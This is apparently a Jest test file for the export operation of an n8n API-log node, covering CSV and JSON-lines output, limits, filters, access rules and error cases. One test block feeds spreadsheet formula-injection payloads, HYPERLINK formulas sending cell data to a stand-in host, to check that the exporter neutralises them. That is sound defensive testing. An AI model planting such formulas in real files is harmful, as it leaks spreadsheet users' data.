import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { setTimeout as sleep } from 'node:timers/promises';
import { DatabaseSync } from 'node:sqlite';
import type { IBinaryData, IDataObject } from 'n8n-workflow';
import { ApiLog } from '../../nodes/ApiLog/ApiLog.node';
import type { LogContext } from '../../nodes/ApiLog/logOperation';
import { exportRows } from '../../nodes/ApiLog/resources/row/export';
import { readCsv } from '../../nodes/shared/engine/csv/read';
import { messageOf } from '../../nodes/shared/engine/errorFacts';
import type { Files } from '../../nodes/shared/node/files';
import { ParameterReader, Problem } from '../../nodes/shared/node/parameters';
import { failed, HOUR, writeRows, type Change } from '../engine/support/logRows';
import { formulasIn } from '../engine/support/spreadsheet';
import { runNode, type NodeRun, type NodeSetup } from './support/runNode';
import { json, type Rest } from './support/setup';

const folder = mkdtempSync(join(tmpdir(), 'gtm-log-export-'));
afterAll(() => rmSync(folder, { recursive: true, force: true }));
let file = '';
let files = 0;
beforeEach(() => {
	file = join(folder, `${(files += 1)}.sqlite`);
	process.env.GTM_LOG_FILE = file;
});
afterEach(() => delete process.env.GTM_LOG_ACCESS);

const goOn = { onError: 'continueErrorOutput' } as const;

async function runLog(parameters: IDataObject, items: IDataObject[] = [{}], rest: Rest = {}) {
	return await runNode({
		node: new ApiLog(),
		parameters: { resource: 'row', returnAll: true, ...parameters } as NodeSetup['parameters'],
		credentials: {},
		items,
		...rest,
	});
}
const exported = async (parameters: IDataObject = {}, items?: IDataObject[], rest?: Rest) =>
	await runLog({ operation: 'export', ...parameters }, items, rest);
/** What Get Many gives for the same parameters. */
const rowsOf = async (parameters: IDataObject = {}) =>
	json((await runLog({ operation: 'getAll', ...parameters })).outputs[0]);

const START = Date.now() - HOUR / 2;
const at = (place: number) => new Date(START + place * 1_000).toISOString();
const write = (...changes: Change[]) =>
	writeRows(
		file,
		changes.map((change, place) => ({ startedAt: START + place * 1_000, ...change })),
	);

const binaryOf = ({ outputs }: NodeRun, item = 0, field = 'data'): IBinaryData | undefined =>
	outputs[0]?.[item]?.binary?.[field];
const textOf = (...where: Parameters<typeof binaryOf>) =>
	Buffer.from(binaryOf(...where)?.data ?? '', 'base64').toString('utf8');
const cellsOf = (run: NodeRun) => readCsv(textOf(run));
const errorsOf = ({ outputs }: NodeRun) => json(outputs[1]).map(({ error }) => error);
const pairs = ({ outputs }: NodeRun) =>
	outputs.map((each) => each.map(({ pairedItem }) => pairedItem));

/** A line of the file as the item that it was made of: the kinds are those of Get Many's item. */
function itemOf(cells: Record<string, string>, like: IDataObject | undefined): IDataObject {
	const entries = Object.entries(cells).map(([name, cell]) => {
		const kind = typeof like?.[name];
		return [name, kind === 'number' ? Number(cell) : kind === 'object' ? JSON.parse(cell) : cell];
	});
	return Object.fromEntries(entries) as IDataObject;
}

describe('Row: Export', () => {
	test('success: the rows of Get Many as a file, in its columns', async () => {
		write(
			...Array.from({ length: 450 }, (_, place) => ({ requestId: `r${place}` })),
			{ workflow: 'other' },
			{ keyFields: '{"id":"7"}', quotaLeft: 'ten-seconds=93 day=8', ...failed(404) },
		);
		const run = await exported();
		const rows = await rowsOf();
		const day = new Date().toISOString().slice(0, 10);
		expect(json(run.outputs[0])).toEqual([
			{ rows: 451, from: at(0), to: at(451), format: 'csv', fileName: `api-log-${day}.csv` },
		]);
		expect(binaryOf(run)).toMatchObject({
			mimeType: 'text/csv',
			fileName: `api-log-${day}.csv`,
			fileExtension: 'csv',
		});
		const [head] = textOf(run).split('\r\n');
		expect(head).toBe(`\ufeff${Object.keys(rows[0] ?? {}).join(',')}`);
		expect(rows).toHaveLength(451);
		expect(cellsOf(run).map((cells, place) => itemOf(cells, rows[place]))).toEqual(rows);
		expect(run.hints).toEqual([
			{ message: 'Complete: 451 records in 3 pages.', type: 'info', location: 'outputPane' },
		]);
	});

	test('a rejected row among good ones: no such format, no name for the file, a limit that is none', async () => {
		write({}, {});
		const parameters = {
			format: '={{ $json.format }}',
			binaryProperty: '={{ $json.field }}',
			returnAll: false,
			limit: '={{ $json.limit }}',
		};
		const good = { format: 'csv', field: 'log', limit: 5 };
		const run = await exported(
			parameters,
			[
				good,
				{ ...good, format: 'xlsx' },
				{ ...good, field: ' ' },
				{ ...good, limit: 0 },
				{ ...good, format: 'jsonl', limit: 1 },
			],
			goOn,
		);
		expect(pairs(run)).toEqual([
			[{ item: 0 }, { item: 4 }],
			[{ item: 1 }, { item: 2 }, { item: 3 }],
		]);
		expect(json(run.outputs[0])).toMatchObject([
			{ rows: 2, format: 'csv' },
			{ rows: 1, format: 'jsonl' },
		]);
		expect(textOf(run, 0, 'log')).toContain('HubSpot GTM');
		expect(JSON.parse(textOf(run, 1, 'log'))).toMatchObject({ logRow: 2 });
		expect(errorsOf(run)).toEqual([
			'The format "xlsx" does not exist',
			'Put Output File in Field is empty',
			'Limit is 0, but has to be a whole number of 1 or more',
		]);
	});

	test('a retry after the file was locked: the file is made', async () => {
		const holder = new DatabaseSync(file);
		holder.exec('PRAGMA locking_mode = EXCLUSIVE; PRAGMA journal_mode = WAL; CREATE TABLE t (a)');
		const run = await exported({}, [{ a: 1 }], goOn);
		expect(errorsOf(run)).toEqual([
			'The API log could not be read: another process keeps it locked',
		]);
		expect(pairs(run)).toEqual([[], [{ item: 0 }]]);
		holder.close();
		rmSync(file);
		write({});
		expect(cellsOf(await exported())).toHaveLength(1);
	});

	test('JSON lines are the items of Get Many, one a line', async () => {
		write(
			{ keyFields: '{"id":"7"}', quotaLeft: 'day=8' },
			{ errorBody: '=1+1 "é"\r\n\u2028\u0000', keyFields: 'no JSON', durationMs: -4 },
		);
		const run = await exported({ format: 'jsonl' });
		const lines = textOf(run).split('\n');
		expect(lines.pop()).toBe('');
		expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual(await rowsOf());
		const fileName = expect.stringMatching(/^api-log-\d{4}-\d\d-\d\d\.jsonl$/) as string;
		expect(binaryOf(run)).toMatchObject({ mimeType: 'application/x-ndjson', fileName });
		expect(json(run.outputs[0])).toMatchObject([{ rows: 2, format: 'jsonl', fileName }]);
	});
});

describe('a CSV file of the log', () => {
	const SIGNS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', ' =', '"=', 'a;='];
	const TEXTS = [
		...['execution', 'node', 'vendor', 'account', 'operation', 'method', 'host', 'path', 'traceId'],
		...['spanId', 'waitReason', 'outcome', 'reason', 'requestId', 'errorBody', 'keyFields'],
	];

	test.each(SIGNS)('has no formula in it where all texts begin with %j', async (sign) => {
		const formula = `${sign}HYPERLINK("http://a.example/"&A1,"Open")`;
		write(Object.fromEntries(TEXTS.map((field) => [field, formula])));
		const run = await exported();
		expect(formulasIn(textOf(run))).toEqual([]);
		const [cells] = cellsOf(run);
		for (const field of TEXTS) {
			expect(cells?.[field]).not.toBe(formula);
			expect(cells?.[field]?.replace("'", '')).toBe(formula);
		}
	});

	test('keeps key fields and quotas JSON, whatever their values and names begin with', async () => {
		const fields = { '=id': '=1+1', list: [-1, '@x;=1'] };
		write({ keyFields: JSON.stringify(fields), quotaLeft: '=day=-8' });
		const run = await exported();
		const [cells] = cellsOf(run);
		expect(JSON.parse(cells?.keyFields ?? '')).toEqual({ ...fields, list: [-1, "@x;'=1"] });
		expect(JSON.parse(cells?.quotaLeft ?? '')).toEqual({ '=day': -8 });
		expect(formulasIn(textOf(run))).toEqual([]);
	});

	test('keeps numbers as they are, also negative ones', async () => {
		write({ durationMs: -5, waitedMs: -1_200, status: 0, responseBytes: 12 });
		const run = await exported();
		const [cells] = cellsOf(run);
		expect(cells).toMatchObject({ durationMs: '-5', waitedMs: '-1200', status: '0' });
		expect(textOf(run)).toContain(',-1200,');
	});

	test('keeps quotes, separators, line ends, control characters and all scripts', async () => {
		const texts = [
			'say "hi", he said; \'so\'',
			'two\nlines\r\nand\rmore',
			'\u0001\u0000\u0007\u001b[31m\u007f',
			'Ünïcödé – 漢字 – עברית – 🙂',
			' led and followed by blanks ',
			'\\d\\"',
			'',
		];
		write(...texts.map((errorBody) => ({ errorBody, path: errorBody })));
		const run = await exported({ order: 'oldest' });
		expect(cellsOf(run).map(({ errorBody }) => errorBody)).toEqual(texts);
		expect(cellsOf(run).map(({ path }) => path)).toEqual(texts);
		expect(Buffer.from(binaryOf(run)?.data ?? '', 'base64').subarray(0, 3)).toEqual(
			Buffer.from([0xef, 0xbb, 0xbf]),
		);
		expect(textOf(run).endsWith('\r\n')).toBe(true);
	});
});

describe('which rows are exported', () => {
	const numbers = (run: NodeRun) => cellsOf(run).map(({ logRow }) => Number(logRow));

	test('a limit, and the oldest or the newest first', async () => {
		write({}, {}, {}, {});
		const oldest = await exported({ returnAll: false, limit: 3, order: 'oldest' });
		expect(numbers(oldest)).toEqual([1, 2, 3]);
		expect(json(oldest.outputs[0])).toMatchObject([{ rows: 3, from: at(0), to: at(2) }]);
		expect(oldest.hints[0]?.message).toBe('Limit reached: 3 records in 1 page.');
		const newest = await exported({ returnAll: false, limit: 3 });
		expect(numbers(newest)).toEqual([4, 3, 2]);
		expect(json(newest.outputs[0])).toMatchObject([{ rows: 3, from: at(1), to: at(3) }]);
	});

	test('a limit that ends within a further page', async () => {
		write(...Array.from({ length: 450 }, () => ({})));
		const run = await exported({ returnAll: false, limit: 250, order: 'oldest' });
		expect(numbers(run)).toEqual(Array.from({ length: 250 }, (_, place) => place + 1));
		expect(json(run.outputs[0])).toMatchObject([{ rows: 250, from: at(0), to: at(249) }]);
	});

	test('those of the filters', async () => {
		write({ vendor: 'Apollo' }, { ...failed(404) }, { vendor: 'Apollo', ...failed(500) });
		const filters = { vendor: 'Apollo', statusClass: [5] };
		expect(numbers(await exported({ filters }))).toEqual([3]);
	});

	test.each([
		['csv', /^\ufefflogRow,startedAt,[\w,]+,keyFields,quotaLeft\r\n$/],
		['jsonl', /^$/],
	])(
		'none that fit: a file of %s without rows, as there is of a log that does not exist yet',
		async (format, text) => {
			const nothing = [{ rows: 0, from: null, to: null, format }];
			const before = await exported({ format });
			expect(json(before.outputs[0])).toMatchObject(nothing);
			expect(textOf(before)).toMatch(text);
			write({});
			const run = await exported({ format, filters: { vendor: 'Clay' } });
			expect(json(run.outputs[0])).toMatchObject(nothing);
			expect(textOf(run)).toMatch(text);
			expect(binaryOf(run)?.fileName).toMatch(/^api-log-/);
		},
	);

	test('those of the workflow alone, and all only where the administrator allows it', async () => {
		write({ workflow: 'other' }, {});
		expect(numbers(await exported())).toEqual([2]);
		expect(numbers(await exported({ filters: { workflow: 'other' } }))).toEqual([2]);
		const refused = await exported({ rowsOf: 'instance' }, [{}], goOn);
		expect(refused.outputs[0]).toEqual([]);
		expect(errorsOf(refused)).toEqual(['Reading the whole instance is not allowed on this n8n']);
		process.env.GTM_LOG_ACCESS = 'instance';
		expect(numbers(await exported({ rowsOf: 'instance' }))).toEqual([2, 1]);
	});
});

describe('what keeps an export from being made', () => {
	test('a damaged log: the reason, on the item itself or as the error of the workflow', async () => {
		writeFileSync(file, 'this was a text file, and a long one at that'.repeat(100));
		const run = await exported({}, [{ a: 1 }], { onError: 'continueRegularOutput' });
		expect(json(run.outputs[0])).toMatchObject([
			{ a: 1, error: expect.stringContaining('it is damaged') as string },
		]);
		expect(binaryOf(run)).toBeUndefined();
		const { error } = await exported();
		expect(error?.message).toContain('it is damaged');
		expect(error?.description).toContain('Check the file');
	});

	/** Runs the operation without a node around it. The names of the files it has made are in `made`. */
	async function direct(context: Partial<LogContext>, given: IDataObject | Error = {}) {
		const made: string[] = [];
		const hints: string[] = [];
		const parameters = {
			format: 'csv',
			binaryProperty: 'data',
			returnAll: true,
			rowsOf: 'workflow',
			timeRange: 'all',
			...(given instanceof Error ? {} : given),
		} as IDataObject;
		const read = new ParameterReader(
			{
				getNodeParameter(name) {
					if (given instanceof Error && name === 'filters') throw given;
					return parameters[name];
				},
			},
			0,
		);
		const keep: Files['write'] = async ({ data, name = '' }) => {
			try {
				await buffer(Readable.from(data));
			} catch (error) {
				return new Problem(`The file is incomplete: ${messageOf(error)}`, '');
			}
			made.push(name);
			return { data: '', mimeType: '' };
		};
		const answer = await exportRows.run({
			read,
			file,
			sink: undefined,
			access: { workflow: 'workflow', instance: false },
			timezone: 'UTC',
			now: Date.parse('2026-11-20T23:30:00Z'),
			files: { read: async () => await Promise.resolve(new Problem('', '')), write: keep },
			hint: (message) => hints.push(message),
			stopped: () => false,
			...context,
		});
		return { answer, made, hints };
	}

	test('the execution is stopped between two pages: no file with a part of the rows', async () => {
		write(...Array.from({ length: 450 }, () => ({})));
		let asked = 0;
		const stopped = () => (asked += 1) > 1;
		const { answer, made, hints } = await direct({ stopped });
		expect(answer).toMatchObject({
			message: 'The execution was stopped before the file was complete',
		});
		expect(made).toEqual([]);
		expect(hints).toEqual(['Incomplete: 200 records in 1 page; the run was stopped.']);
	});

	test('a page is read when the file wants it, not before', async () => {
		write(...Array.from({ length: 2_000 }, () => ({})));
		let asked = 0;
		const stopped = () => {
			asked += 1;
			return false;
		};
		const askedBy: number[] = [];
		let bytes = 0;
		const slowly: Files['write'] = async ({ data }) => {
			for await (const part of Readable.from(data)) {
				await sleep(20);
				askedBy.push(asked);
				bytes += (part as Buffer).length;
			}
			return { data: '', mimeType: '' };
		};
		const read = async () => await Promise.resolve(new Problem('', ''));
		const { answer } = await direct({ stopped, files: { read, write: slowly } });
		expect(answer).toMatchObject({ items: [{ rows: 2_000 }] });
		// The head, then ten pages; a stream holds one or two that nobody has taken yet.
		expect(askedBy).toHaveLength(11);
		expect(bytes).toBeGreaterThan(2_000 * 100);
		expect(askedBy.slice(0, 5).every((pages, taken) => pages <= taken + 2)).toBe(true);
	});

	test('the file cannot be kept: the reason', async () => {
		write({});
		const full = new Problem('The answer could not be kept as a file: the disk is full', '');
		const keepNothing: Files['write'] = async () => await Promise.resolve(full);
		const files = { read: async () => await Promise.resolve(full), write: keepNothing };
		expect((await direct({ files })).answer).toBe(full);
	});

	test('an expression that fails in a filter: nothing is read without it', async () => {
		write({});
		const { answer, made } = await direct({}, new Error('no such item'));
		expect(answer).toMatchObject({ message: expect.stringContaining('no such item') as string });
		expect(made).toEqual([]);
	});

	test('nothing: the name of the file has the day of UTC', async () => {
		write({});
		const { answer, made } = await direct({}, { format: 'jsonl' });
		expect(made).toEqual(['api-log-2026-11-20.jsonl']);
		expect(answer).toMatchObject({ items: [{ rows: 1, fileName: 'api-log-2026-11-20.jsonl' }] });
	});
});
